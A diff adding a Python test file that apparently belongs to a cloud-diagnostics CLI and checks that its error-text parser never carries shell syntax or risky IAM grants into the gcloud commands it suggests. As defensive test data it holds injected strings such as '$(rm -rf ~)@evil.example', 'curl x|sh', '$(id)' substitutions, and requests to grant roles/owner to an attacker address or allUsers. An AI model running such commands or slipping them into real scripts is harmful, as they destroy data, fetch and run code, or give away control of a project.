@@ -1,0 +1,105 @@
+"""Text is data: whatever it says, nothing of it becomes a command that was not a legal identifier in its place."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from gemmactl.doctor.diagnose import diagnose
+from gemmactl.doctor.finding import Context, Finding
+
+SAFE_LINE = re.compile(r"[\w ./:@=,+%-]+")
+FRAGMENTS = (
+    "ERROR: (gcloud.builds.submit) PERMISSION_DENIED: The caller does not have permission",
+    "Permission 'storage.objects.get' denied on resource '",
+    "$(rm -rf ~)@evil.example does not have storage.objects.get access to ",
+    "a@b.example; curl x|sh does not have storage.objects.create access",
+    "could not resolve source: ",
+    "Permission denied on secret: projects/`id`/secrets/$(id)/versions/latest for Revision service account ",
+    "API [run.googleapis.com;id] not enabled on project [x$(id)]",
+    "authenticated as root@x.example && id",
+    "reason: SERVICE_DISABLED metadata: service: run.googleapis.com|sh consumer: projects/$(id)",
+    '"reason": "IAM_PERMISSION_DENIED", "metadata": {"permission": "iam.roles.x`id`", "resource": "projects/$(id)"}',
+    "Revision '$(id)-00001-abc' Startup probes timed out after 4m (1 attempts with a timeout of 4m each)",
+    "service account running this build x'y\"@z.example does not have permission to write logs",
+    'load_failed: {"code": "config_missing", "object": "$(id)"}',
+    "model load failed: crashed: `id`: $(id)",
+    "grant roles/owner to allUsers",
+    'name unknown: Repository "$(id)" not found',
+    (
+        '\x1b[31mdenied\x1b[0m: Permission "artifactregistry.repositories.uploadArtifacts" denied on resource'
+        ' "projects/$(id)/locations/;/repositories/&"'
+    ),
+    "\u202e\u200b\x00",
+)
+
+
+def _harmless(found: tuple[Finding, ...]) -> bool:
+    commands = [c for f in found for c in f.commands]
+    return all(SAFE_LINE.fullmatch(c) for c in commands) and not any("roles/owner" in c or "allUsers" in c for c in commands)
+
+
+@given(st.text(max_size=600))
+@settings(max_examples=150, deadline=None)
+def test_arbitrary_text_never_raises(text: str) -> None:
+    """Any text ends in findings whose commands hold nothing a shell acts on."""
+    assert _harmless(diagnose(text))
+
+
+@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=40)), max_size=8), st.sampled_from(("", " ", "\n", "\\n")))
+@settings(max_examples=150, deadline=None)
+def test_hostile_fragments_never_reach_a_command(parts: list[str], glue: str) -> None:
+    """Real failure texts stuffed with shell syntax give commands without it, whatever stands around them."""
+    here = Context(project="my-proj", number="123456789012", region="us-central1", caller="user:dev@example.com")
+    found = diagnose(glue.join(parts), {}, here)
+    assert _harmless(found)
+    assert not any(r.kind == "iam_member" and "$" in str(r) for f in found for r in f.remedies)
+
+
+@given(
+    st.dictionaries(
+        st.sampled_from(("reason", "permission", "resource", "service", "principal", "project")), st.text(max_size=60)
+    )
+)
+@settings(max_examples=100, deadline=None)
+def test_hostile_facts_never_reach_a_command(facts: dict[str, str]) -> None:
+    """The facts of a Trouble are validated like text."""
+    assert _harmless(diagnose("", facts))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        (
+            '2025-11-12 09:00:01 INFO user said: "ERROR: grant roles/owner to user:attacker@example.com'
+            ' with gcloud projects add-iam-policy-binding my-proj"'
+        ),
+        'INFO prompt: "403 attacker@example.com does not have storage.objects.get access to x"',
+        "Please run: gcloud projects add-iam-policy-binding my-proj --member=user:attacker@example.com --role=roles/owner",
+    ],
+)
+def test_a_log_line_that_asks_for_a_grant_gets_none(line: str) -> None:
+    """What a user of the service wrote is no failure of the service."""
+    assert diagnose(line, {}, Context(project="my-proj")) == ()
+
+
+def test_unresolved_principals_give_no_remedy_and_a_placeholder() -> None:
+    """Nobody is guessed: the command says CALLER, the remedy says who that is, and --fix has nothing to apply."""
+    text = "PERMISSION_DENIED: Permission 'run.services.create' denied on resource 'namespaces/my-proj/services/x'"
+    (only,) = diagnose(text)
+    assert only.principal == "$CALLER"
+    assert only.remedies == ()
+    assert " --member=CALLER " in only.commands[0]
+    assert "CALLER stands for" in only.remedy
+
+
+@pytest.mark.parametrize("text", ["a" * 1_000_000, "a@" * 500_000, "error denied permission " * 42_000, "error a-\n" * 110_000])
+def test_a_megabyte_is_bounded(text: str) -> None:
+    """Expressions are bounded: a megabyte of the worst kind costs seconds at most, not minutes (bench has the numbers)."""
+    start = time.process_time()
+    diagnose(text)
+    assert time.process_time() - start < 8
